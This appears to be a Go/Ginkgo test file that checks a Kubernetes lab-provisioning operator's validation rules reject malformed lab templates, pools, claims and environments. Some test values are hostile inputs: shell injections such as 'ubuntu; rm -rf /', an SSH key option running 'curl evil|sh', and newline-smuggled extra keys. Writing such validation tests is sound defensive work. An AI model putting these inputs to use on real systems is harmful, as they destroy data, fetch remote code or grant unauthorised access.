@@ -1,0 +1,259 @@
+package api_test
+
+import (
+	"context"
+	"strconv"
+	"strings"
+
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+)
+
+const aliceKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm0Y9ZsqJqj0V2tLxZf0bC7vQ5s8m3y8zJQ0fQy1d4X alice@laptop"
+
+func object(kind, name string, spec map[string]any) *unstructured.Unstructured {
+	u := &unstructured.Unstructured{Object: map[string]any{
+		"apiVersion": "labforge.dev/v1alpha1",
+		"kind":       kind,
+		"metadata":   map[string]any{"name": name},
+		"spec":       spec,
+	}}
+	if kind == "LabClaim" {
+		u.SetNamespace("default")
+	}
+	return u
+}
+
+func template(name string) *unstructured.Unstructured {
+	return object("LabTemplate", name, map[string]any{
+		"kubernetesVersion": "v1.36.3",
+		"image":             map[string]any{"containerDisk": "quay.io/containerdisks/ubuntu:22.04"},
+	})
+}
+
+func pool(name string) *unstructured.Unstructured {
+	return object("LabPool", name, map[string]any{"templateRef": map[string]any{"name": "t"}})
+}
+
+func claim(name string) *unstructured.Unstructured {
+	return object("LabClaim", name, map[string]any{
+		"poolRef": map[string]any{"name": "p"},
+		"ssh":     map[string]any{"authorizedKeys": []any{aliceKey}},
+	})
+}
+
+func environment(name string) *unstructured.Unstructured {
+	return object("LabEnvironment", name, map[string]any{"templateRef": map[string]any{"name": "t"}})
+}
+
+// set sets a field below spec, given as a dotted path. It runs while the test tree is
+// built, so it panics instead of asserting.
+func set(u *unstructured.Unstructured, path string, value any) *unstructured.Unstructured {
+	if err := unstructured.SetNestedField(u.Object, value, append([]string{"spec"}, strings.Split(path, ".")...)...); err != nil {
+		panic(err)
+	}
+	return u
+}
+
+func unset(u *unstructured.Unstructured, path string) *unstructured.Unstructured {
+	unstructured.RemoveNestedField(u.Object, append([]string{"spec"}, strings.Split(path, ".")...)...)
+	return u
+}
+
+func named(u *unstructured.Unstructured, name string) *unstructured.Unstructured {
+	u.SetName(name)
+	return u
+}
+
+// expectRejected creates u and expects the API server to refuse it with want in the
+// message, and nothing to be stored.
+func expectRejected(ctx context.Context, u *unstructured.Unstructured, want string) {
+	err := k8s.Create(ctx, u.DeepCopy(), client.FieldValidation("Strict"))
+	Expect(err).To(HaveOccurred(), "the API server accepted an invalid %s", u.GetKind())
+	Expect(apierrors.IsInvalid(err) || apierrors.IsBadRequest(err)).To(BeTrue(), "unexpected error kind: %v", err)
+	Expect(err.Error()).To(ContainSubstring(want))
+	got := &unstructured.Unstructured{}
+	got.SetGroupVersionKind(u.GroupVersionKind())
+	Expect(apierrors.IsNotFound(k8s.Get(ctx, client.ObjectKeyFromObject(u), got))).To(BeTrue(), "a rejected object was stored")
+}
+
+// expectUpdateRejected creates u, applies change to it and expects the update to be
+// refused with want in the message, the stored object unchanged.
+func expectUpdateRejected(ctx context.Context, u *unstructured.Unstructured, change func(*unstructured.Unstructured), want string) {
+	u = u.DeepCopy()
+	Expect(k8s.Create(ctx, u)).To(Succeed())
+	DeferCleanup(func(ctx context.Context) { Expect(client.IgnoreNotFound(k8s.Delete(ctx, u))).To(Succeed()) })
+	before := u.DeepCopy()
+	change(u)
+	err := k8s.Update(ctx, u)
+	Expect(err).To(HaveOccurred(), "the API server accepted an invalid update of %s", u.GetKind())
+	Expect(apierrors.IsInvalid(err)).To(BeTrue(), "unexpected error kind: %v", err)
+	Expect(err.Error()).To(ContainSubstring(want))
+	got := before.DeepCopy()
+	Expect(k8s.Get(ctx, client.ObjectKeyFromObject(before), got)).To(Succeed())
+	Expect(got.Object["spec"]).To(Equal(before.Object["spec"]))
+}
+
+func withClaimRef(u *unstructured.Unstructured, name, uid string) *unstructured.Unstructured {
+	return set(u, "claimRef", map[string]any{"namespace": "default", "name": name, "uid": uid})
+}
+
+var _ = Describe("Invalid labforge objects", func() {
+	DescribeTable("are rejected on create with a message naming the field",
+		expectRejected,
+
+		Entry("template: zero default lifetime", set(template("t"), "lifetime.default", "0s"),
+			`spec.lifetime.default: Invalid value: "0s": lifetime.default must be at least 1m`),
+		Entry("template: negative default lifetime", set(template("t"), "lifetime.default", "-1h"),
+			`spec.lifetime.default: Invalid value: "-1h": lifetime.default must be at least 1m`),
+		Entry("template: a lifetime that is not a duration", set(template("t"), "lifetime.maximum", "forever"),
+			`spec.lifetime.maximum`),
+		Entry("template: default lifetime above the maximum", set(set(template("t"), "lifetime.default", "10h"), "lifetime.maximum", "4h"),
+			`spec: Invalid value: lifetime.default must not exceed lifetime.maximum`),
+		Entry("template: too many workers", set(template("t"), "workers.count", int64(11)),
+			`spec.workers.count: Invalid value: 11: spec.workers.count in body should be less than or equal to 10`),
+		Entry("template: negative workers", set(template("t"), "workers.count", int64(-1)),
+			`spec.workers.count: Invalid value: -1: spec.workers.count in body should be greater than or equal to 0`),
+		Entry("template: control plane memory below kubeadm's minimum", set(template("t"), "controlPlane", map[string]any{"cores": int64(2), "memory": "1Gi"}),
+			`spec.controlPlane: Invalid value: controlPlane.memory must be at least 1700Mi for kubeadm`),
+		Entry("template: control plane with one vCPU", set(template("t"), "controlPlane", map[string]any{"cores": int64(1), "memory": "2Gi"}),
+			`spec.controlPlane: Invalid value: controlPlane needs at least 2 vCPUs (cores * threads) for kubeadm`),
+		Entry("template: worker memory too small", set(template("t"), "workers", map[string]any{"count": int64(1), "memory": "256Mi"}),
+			`spec.workers.memory: Invalid value: "256Mi": memory must be between 512Mi and 64Gi`),
+		Entry("template: memory that is not a quantity", set(template("t"), "workers", map[string]any{"count": int64(1), "memory": "lots"}),
+			`spec.workers.memory`),
+		Entry("template: too many threads", set(template("t"), "workers", map[string]any{"threads": int64(4), "memory": "1Gi"}),
+			`spec.workers.threads: Invalid value: 4: spec.workers.threads in body should be less than or equal to 2`),
+		Entry("template: version without the v", set(template("t"), "kubernetesVersion", "1.36.3"),
+			`spec.kubernetesVersion: Invalid value: "1.36.3": kubernetesVersion must look like v1.36.3`),
+		Entry("template: root as the SSH user", set(template("t"), "sshUser", "root"),
+			`spec.sshUser: Invalid value: "root": sshUser must not be root: students get root through sudo`),
+		Entry("template: SSH user with shell characters", set(template("t"), "sshUser", "bob;reboot"),
+			`spec.sshUser: Invalid value: "bob;reboot": sshUser must be a lowercase POSIX user name`),
+		Entry("template: image with shell characters", set(template("t"), "image.containerDisk", "ubuntu; rm -rf /"),
+			`spec.image.containerDisk: Invalid value: "ubuntu; rm -rf /": containerDisk must be an image reference without spaces or shell characters`),
+		Entry("template: no image", unset(template("t"), "image"),
+			`spec.image: Required value`),
+		Entry("template: pod range that is not a CIDR", set(template("t"), "network.podCIDR", "10.0.0.0/33"),
+			`spec.network.podCIDR: Invalid value: "10.0.0.0/33": podCIDR must be an IPv4 CIDR with a prefix length between 8 and 24`),
+		Entry("template: overlapping pod and service ranges", set(set(template("t"), "network.podCIDR", "10.200.0.0/16"), "network.serviceCIDR", "10.200.128.0/20"),
+			`spec.network: Invalid value: podCIDR and serviceCIDR must not overlap`),
+		Entry("template: the host CNI's tunnel port", set(template("t"), "network.tunnelPort", int64(8472)),
+			`spec.network.tunnelPort: Invalid value: 8472: tunnelPort must not be 4789 or 8472, the host CNI's usual VXLAN ports`),
+		Entry("template: an egress exception that is not a CIDR", set(template("t"), "network.egressExceptCIDRs", []any{"everything"}),
+			`spec.network.egressExceptCIDRs[0]: Invalid value: "everything": egressExceptCIDRs entries must be CIDRs such as 192.0.2.0/24`),
+		Entry("template: a bandwidth limit below 1M", set(template("t"), "network.bandwidth", map[string]any{"ingress": "1k"}),
+			`spec.network.bandwidth.ingress: Invalid value: "1k": ingress bandwidth must be between 1M and 100G`),
+		Entry("template: an empty bandwidth block", set(template("t"), "network.bandwidth", map[string]any{}),
+			`spec.network.bandwidth: Invalid value: bandwidth needs ingress, egress or both`),
+		Entry("template: an empty scenario script", set(template("t"), "scenario", map[string]any{"script": ""}),
+			`spec.scenario.script: Invalid value: "": spec.scenario.script in body should be at least 1 chars long`),
+		Entry("template: a description over 4096 characters", set(template("t"), "description", strings.Repeat("x", 4097)),
+			`spec.description: Too long: may not be more than 4096 bytes`),
+		Entry("template: 21 hints", set(template("t"), "hints", func() []any {
+			h := make([]any, 21)
+			for i := range h {
+				h[i] = "hint"
+			}
+			return h
+		}()), `spec.hints: Too many: 21: must have at most 20 items`),
+		Entry("template: a misspelled field", set(template("t"), "workerz", int64(1)),
+			`unknown field "spec.workerz"`),
+		Entry("template: a name with a dot", named(template("t"), "a.b"),
+			`metadata.name must be a DNS label (at most 63 lowercase letters, digits and '-')`),
+
+		Entry("pool: negative replicas", set(pool("p"), "replicas", int64(-1)),
+			`spec.replicas: Invalid value: -1: spec.replicas in body should be greater than or equal to 0`),
+		Entry("pool: more replicas than maxLabs", set(set(pool("p"), "replicas", int64(11)), "maxLabs", int64(10)),
+			`spec: Invalid value: replicas must not exceed maxLabs`),
+		Entry("pool: zero maxBooting", set(pool("p"), "maxBooting", int64(0)),
+			`spec.maxBooting: Invalid value: 0: spec.maxBooting in body should be greater than or equal to 1`),
+		Entry("pool: an unknown update strategy", set(pool("p"), "updateStrategy.type", "Recreate"),
+			`spec.updateStrategy.type: Unsupported value: "Recreate": supported values: "RollingUpdate", "OnDelete"`),
+		Entry("pool: no template", unset(pool("p"), "templateRef"),
+			`spec.templateRef: Required value`),
+		Entry("pool: a 49-character name", named(pool("p"), strings.Repeat("p", 49)),
+			`metadata.name must be a DNS label of at most 48 characters (lab names add a suffix)`),
+
+		Entry("claim: neither pool nor template", unset(claim("c"), "poolRef"),
+			`spec: Invalid value: exactly one of poolRef and templateRef must be set`),
+		Entry("claim: both pool and template", set(claim("c"), "templateRef", map[string]any{"name": "t"}),
+			`spec: Invalid value: exactly one of poolRef and templateRef must be set`),
+		Entry("claim: a zero duration", set(claim("c"), "duration", "0s"),
+			`spec.duration: Invalid value: "0s": duration must be between 1m and 720h`),
+		Entry("claim: a negative duration", set(claim("c"), "duration", "-5m"),
+			`spec.duration: Invalid value: "-5m": duration must be between 1m and 720h`),
+		Entry("claim: a duration over 720h", set(claim("c"), "duration", "721h"),
+			`spec.duration: Invalid value: "721h": duration must be between 1m and 720h`),
+		Entry("claim: no way to log in", set(claim("c"), "ssh", map[string]any{}),
+			`spec.ssh: Invalid value: ssh needs authorizedKeys, generateKeyPair: true, or both`),
+		Entry("claim: a key that is not a public key line", set(claim("c"), "ssh.authorizedKeys", []any{"not a key"}),
+			`spec.ssh.authorizedKeys[0]: Invalid value: "not a key": each authorizedKeys entry must be one SSH public key line: type, base64 key and an optional comment, without options`),
+		Entry("claim: a key with authorized_keys options", set(claim("c"), "ssh.authorizedKeys", []any{`command="curl evil|sh" ` + aliceKey}),
+			keyRejected(`command="curl evil|sh" `+aliceKey)),
+		Entry("claim: two keys smuggled in one line", set(claim("c"), "ssh.authorizedKeys", []any{aliceKey + "\n" + aliceKey}),
+			keyRejected(aliceKey+"\n"+aliceKey)),
+		Entry("claim: a newline in a key", set(claim("c"), "ssh.authorizedKeys", []any{aliceKey + "\nssh-rsa AAAAB3 mallory"}),
+			keyRejected(aliceKey+"\nssh-rsa AAAAB3 mallory")),
+		Entry("claim: a private key", set(claim("c"), "ssh.authorizedKeys", []any{"-----BEGIN OPENSSH PRIVATE KEY-----"}),
+			`spec.ssh.authorizedKeys[0]: Invalid value: "-----BEGIN OPENSSH PRIVATE KEY-----": each authorizedKeys entry must be one SSH public key line`),
+		Entry("claim: eleven keys", set(claim("c"), "ssh.authorizedKeys", func() []any {
+			k := make([]any, 11)
+			for i := range k {
+				k[i] = aliceKey
+			}
+			return k
+		}()), `spec.ssh.authorizedKeys: Too many: 11: must have at most 10 items`),
+		Entry("claim: a 53-character name", named(claim("c"), strings.Repeat("c", 53)),
+			`metadata.name must be a DNS label of at most 52 characters (Secret names add a suffix)`),
+
+		Entry("environment: a 60-character name", named(environment("e"), strings.Repeat("e", 60)),
+			`metadata.name must be a DNS label of at most 59 characters (the lab namespace is lab-<name>)`),
+		Entry("environment: a claim reference without a UID", set(environment("e"), "claimRef", map[string]any{"namespace": "default", "name": "alice"}),
+			`spec.claimRef.uid: Required value`),
+	)
+
+	DescribeTable("are rejected on update with a message naming the field",
+		expectUpdateRejected,
+
+		Entry("claim: moving to another pool", claim("c-move"), func(u *unstructured.Unstructured) { set(u, "poolRef.name", "other") },
+			`spec: Invalid value: poolRef is immutable`),
+		Entry("claim: switching from a pool to a template", claim("c-switch"), func(u *unstructured.Unstructured) {
+			unset(u, "poolRef")
+			set(u, "templateRef", map[string]any{"name": "t"})
+		}, `spec: Invalid value: poolRef is immutable`),
+		Entry("claim: changing the SSH keys", claim("c-keys"), func(u *unstructured.Unstructured) { set(u, "ssh.generateKeyPair", true) },
+			`spec: Invalid value: ssh is immutable`),
+		Entry("environment: changing the template", environment("e-tmpl"), func(u *unstructured.Unstructured) { set(u, "templateRef.name", "other") },
+			`spec: Invalid value: templateRef is immutable`),
+		Entry("environment: handing a bound lab to another claim", withClaimRef(environment("e-rebind"), "alice", "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e"),
+			func(u *unstructured.Unstructured) { withClaimRef(u, "mallory", "1b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e") },
+			`spec: Invalid value: claimRef cannot be changed or removed once set: a lab is never handed to a second claim`),
+		Entry("environment: unbinding a lab", withClaimRef(environment("e-unbind"), "alice", "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e"),
+			func(u *unstructured.Unstructured) { unset(u, "claimRef") },
+			`spec: Invalid value: claimRef cannot be changed or removed once set: a lab is never handed to a second claim`),
+		Entry("environment: joining a pool later", environment("e-pool"), func(u *unstructured.Unstructured) { set(u, "poolRef", map[string]any{"name": "p"}) },
+			`spec: Invalid value: poolRef is immutable`),
+	)
+
+	It("accepts the updates that are allowed: binding a lab once, extending a claim", func(ctx context.Context) {
+		env := environment("e-bind")
+		Expect(k8s.Create(ctx, env)).To(Succeed())
+		withClaimRef(env, "alice", "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e")
+		Expect(k8s.Update(ctx, env)).To(Succeed())
+
+		c := set(claim("c-extend"), "duration", "1h")
+		Expect(k8s.Create(ctx, c)).To(Succeed())
+		set(c, "duration", "3h")
+		Expect(k8s.Update(ctx, c)).To(Succeed())
+	})
+})
+
+// keyRejected is the API server's exact message for a rejected authorizedKeys entry.
+func keyRejected(value string) string {
+	return "spec.ssh.authorizedKeys[0]: Invalid value: " + strconv.Quote(value) +
+		": each authorizedKeys entry must be one SSH public key line: type, base64 key and an optional comment, without options"
+}
